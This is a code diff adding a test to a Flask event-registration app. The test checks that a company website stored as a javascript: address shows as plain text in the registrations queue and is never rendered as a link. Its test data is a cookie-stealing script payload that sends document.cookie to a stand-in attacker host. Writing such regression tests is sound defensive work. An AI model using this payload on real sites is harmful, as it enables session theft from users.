@@ -293,3 +293,17 @@ def test_approving_with_the_same_company_box_lets_the_contact_edit(
     )
     db_session.expire_all()
     assert newcomer.company_edit_allowed and newcomer.status == ParticipantStatus.APPROVED
+
+
+def test_a_website_that_is_not_a_web_address_is_never_a_link_in_the_queue(
+    client: FlaskClient, db_session: Session, logged_in, fair
+) -> None:
+    """Imports keep what was typed (with a warning): a javascript: address stays text."""
+    company = fair.supplier.organization
+    company.website = "javascript:fetch('//attacker.example/'+document.cookie)"
+    other = make_fair(db_session, slug="next-fair").event
+    db_session.commit()
+    registration.self_register(db_session, other, _data(company="ABC精工(株)"))
+    db_session.commit()
+    queue = client.get(f"/events/{other.id}/registrations").get_data(as_text=True)
+    assert "attacker.example" in queue and 'href="javascript:' not in queue
